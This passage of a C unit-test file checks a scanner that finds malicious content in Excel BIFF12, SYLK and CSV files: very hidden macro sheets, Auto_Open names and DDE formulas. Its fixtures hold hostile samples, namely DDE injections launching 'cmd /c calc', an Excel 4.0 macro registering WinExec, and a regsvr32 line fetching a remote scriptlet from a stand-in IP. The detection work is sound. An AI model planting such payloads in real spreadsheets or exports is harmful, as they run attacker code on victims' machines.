	ck_assert_int_eq(xls_scan_biff(s.d, s.n, &r), EMG_OK);
	ck_assert_uint_eq(r.dde.n, 1);
	ck_assert_str_eq(r.dde.v[0], "cmd|'/c calc.exe'!A1");
	xls_result_free(&r);
}
END_TEST

/* ---- BIFF12 ------------------------------------------------------------- */

/* A BIFF12 record: TYPE and size as variable-length numbers. */
static void
rec12(bb_t *s, unsigned type, bb_t *p)
{
	size_t n = p->n;
	if (type >= 0x80) {
		put8(s, (type & 0x7F) | 0x80);
		put8(s, type >> 7);
	} else
		put8(s, type);
	do {
		put8(s, (n & 0x7F) | (n > 0x7F ? 0x80 : 0));
		n >>= 7;
	} while (n > 0);
	put(s, p->d, p->n);
	p->n = 0;
}

static void
wstr(bb_t *p, const char *s)
{
	put32(p, (uint32_t)strlen(s));
	for (; *s; s++)
		put16(p, (uint8_t)*s);
}

START_TEST(test_biff12)
{
	bb_t s = {.n = 0}, p = {.n = 0};
	xls_result_t r;

	rec12(&s, 131, &p); /* BrtBeginBook */
	put32(&p, 2);
	put32(&p, 1);
	wstr(&p, "rId3");
	wstr(&p, "Macro1");
	rec12(&s, 156, &p);
	put32(&p, 0);
	put32(&p, 2);
	put32(&p, 0xFFFFFFFFu); /* no relationship */
	wstr(&p, "Sheet1");
	rec12(&s, 156, &p);
	put32(&p, 0x20);
	put8(&p, 0);
	put32(&p, 0xFFFFFFFFu);
	wstr(&p, "Auto_Open");
	rec12(&s, 39, &p);
	put32(&p, 0);
	put8(&p, 0);
	put32(&p, 0);
	wstr(&p, "auto_open_1");
	rec12(&s, 39, &p);
	for (int i = 0; i < 300; i++) /* a record larger than 127 bytes */
		put8(&p, 0);
	rec12(&s, 1000, &p);
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_biff12_workbook(s.d, s.n, &r), EMG_OK);
	ck_assert(r.workbook);
	ck_assert_uint_eq(r.sheets.n, 2);
	ck_assert_str_eq(r.sheets.v[0], "Macro1 (very hidden)");
	ck_assert_str_eq(r.sheet_rels.v[0], "rId3");
	ck_assert_str_eq(r.sheets.v[1], "Sheet1");
	ck_assert_str_eq(r.sheet_rels.v[1], "");
	check_has(&r.auto_names, "Auto_Open");
	check_has(&r.auto_names, "auto_open_1");
	ck_assert_uint_eq(r.problems.n, 0);
	xls_result_free(&r);

	/* a size past the end, then a type of three bytes */
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_biff12_workbook(s.d, s.n - 1, &r), EMG_OK);
	ck_assert(has_sub(&r.problems, "damaged BIFF12 record"));
	xls_result_free(&r);
	memset(&r, 0, sizeof(r));
	ck_assert_int_eq(xls_scan_biff12_workbook(
	                     (const uint8_t *)"\x83\x81\x01\x00", 4, &r),
	                 EMG_OK);
	ck_assert(has_sub(&r.problems, "offset 0"));
	xls_result_free(&r);
}
END_TEST

/* ---- SYLK and CSV ------------------------------------------------------- */

START_TEST(test_sylk)
{
	static const char macro[] =
	    "ID;PWXL;N;E\r\n"
	    "NN;NauTo_oPen12;ER1C1\r\n"
	    "C;Y1;X1;K0;EEXEC(\"calc\")\r\n"
	    "C;Y2;X1;K0;EREGISTER(\"Kernel32\",\"WinExec\",\"JCJ\");;X\r\n"
	    "C;Y3;X1;K0;Ecmd|' /C calc'!A0\r\n"
	    "C;Y4;X1;K0;EHALT()\r\n"
	    "E\r\n";
	static const char data[] = "ID;PWXL;N;E\nC;Y1;X1;K12\n"
	                           "C;Y2;X1;K1;ESUM(R1C1:R1C1)\nE\n";
	static const char option[] = "ID;P\nO;L;E;D\nE\n";
	xls_result_t r;

	ck_assert(xls_is_sylk((const uint8_t *)macro, sizeof(macro) - 1));
	ck_assert_int_eq(
	    xls_scan_sylk((const uint8_t *)macro, sizeof(macro) - 1, &r),
	    EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	check_has(&r.auto_names, "auTo_oPen12");
	check_has(&r.formulas, "EXEC");
	check_has(&r.formulas, "REGISTER");
	check_has(&r.formulas, "WinExec");
	check_has(&r.dde, "cmd|' /C calc'!A0");
	xls_result_free(&r);

	ck_assert_int_eq(
	    xls_scan_sylk((const uint8_t *)data, sizeof(data) - 1, &r), EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 0);
	ck_assert_uint_eq(r.formulas.n + r.dde.n + r.auto_names.n, 0);
	xls_result_free(&r);

	ck_assert_int_eq(
	    xls_scan_sylk((const uint8_t *)option, sizeof(option) - 1, &r),
	    EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 1);
	xls_result_free(&r);

	ck_assert(!xls_is_sylk((const uint8_t *)"ID", 2));
	ck_assert_int_eq(xls_scan_sylk((const uint8_t *)"a,b\n", 4, &r),
	                 EMG_OK);
	ck_assert_uint_eq(r.macro_sheets, 0);
	ck_assert(has_sub(&r.problems, "not a SYLK"));
	xls_result_free(&r);
}
END_TEST

typedef struct csv_case {
	const char *text;
	const char *want; /* the DDE entry, or NULL for none */
} csv_case_t;

START_TEST(test_csv)
{
	static const csv_case_t cases[] = {
	    {"=cmd|' /C calc'!A0\n", "=cmd|' /C calc'!A0"},
	    {"a,b,+cmd|' /C calc'!A0,c\n", "+cmd|' /C calc'!A0"},
	    {"x;-cmd|' /C calc'!A0\n", "-cmd|' /C calc'!A0"},
	    {"@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"},
	    {"name,\"=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /i:"
	     "http://192.0.2.1/x.sct scrobj.dll'!''\"\r\n",
	     "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /i:"
	     "http://192.0.2.1/x.sct scrobj.dll'!''"},
	    {"  '=cmd|'/c calc'!_xlbgnm.A1", "=cmd|'/c calc'!_xlbgnm.A1"},
	    {"=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
	     "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"},
	    {"=SUM(A1:A3),=A1+A2,-5,+3,@A1\n", NULL},
	    {"cmd|' /C calc'!A0\n", NULL}, /* not a formula */
	    {"=A1|B1\n", NULL},            /* no item */
	    {"-5|3!\n", NULL},             /* no application */
	    {"\"A\",\"B\",,,,\"\",,\n", NULL},
	    {"", NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		xls_result_t r;
		memset(&r, 0, sizeof(r));
		ck_assert_int_eq(xls_scan_csv((const uint8_t *)cases[i].text,
		                              strlen(cases[i].text), &r),
		                 EMG_OK);
		if (cases[i].want == NULL)
			ck_assert_msg(r.dde.n == 0, "case %zu: %s", i,
			              r.dde.n ? r.dde.v[0] : "");
		else {
			ck_assert_msg(r.dde.n == 1, "case %zu", i);
			ck_assert_str_eq(r.dde.v[0], cases[i].want);
		}
		xls_result_free(&r);
	}
}
END_TEST

TESTUTIL_MAIN("xls", test_corpus_macro_books, test_corpus_sylk,
              test_corpus_plain_books, test_corpus_encrypted,
              test_corpus_decrypted_dde, test_corpus_csv, test_corpus_good_csv,
              test_corpus_xlsb_workbook, test_hidden_sheets,
              test_bof_says_macro, test_builtin_names, test_obfuscated_names,
              test_unicode_names, test_formula_calls, test_other_cells,
              test_continue_chain, test_truncated, test_length_past_end,
              test_max_records, test_filepass, test_biff5, test_supbook_dde,
              test_biff12, test_sylk, test_csv)
